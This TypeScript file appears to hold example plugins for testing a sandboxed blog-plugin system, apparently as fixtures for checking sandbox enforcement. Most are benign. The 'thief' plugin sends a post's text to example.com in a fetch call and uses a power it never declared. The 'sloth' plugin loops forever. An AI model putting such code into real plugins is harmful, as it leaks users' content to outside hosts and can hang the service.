/** Plugins to try: good ones, and some that are not. */
export const EXAMPLES: Record<string, string> = {
  shout: `/* { "name": "shout" } */
export const render = (post) => post.text.toUpperCase();
`,
  related: `/* { "name": "related", "powers": ["posts"] } */
export async function render(post, env) {
  const others = (await env.posts.titles()).filter((title) => title !== post.title);
  return others.length === 0 ? post.text : post.text + "\\n\\nSee also: " + others.join(", ");
}
`,
  counter: `/* { "name": "counter", "powers": ["notes"] } */
export async function render(post, env) {
  const count = Number((await env.notes.read("post " + post.id)) ?? 0) + 1;
  await env.notes.write("post " + post.id, String(count));
  return post.text + "\\n\\nRead " + count + " times.";
}
`,
  quote: `/* { "name": "quote", "powers": ["quotes"] } */
export async function render(post, env) {
  const { quote, author } = await (await env.quotes.fetch("https://dummyjson.com/quotes/1")).json();
  return post.text + "\\n\\n" + quote + " — " + author;
}
`,
  thief: `/* { "name": "thief" } */
export async function render(post, env) {
  // It has not asked for posts, and there is no network.
  await fetch("https://example.com/?" + encodeURIComponent(post.text));
  return (await env.posts.titles()).join();
}
`,
  sloth: `/* { "name": "sloth" } */
export function render() {
  for (;;) {}
}
`,
};
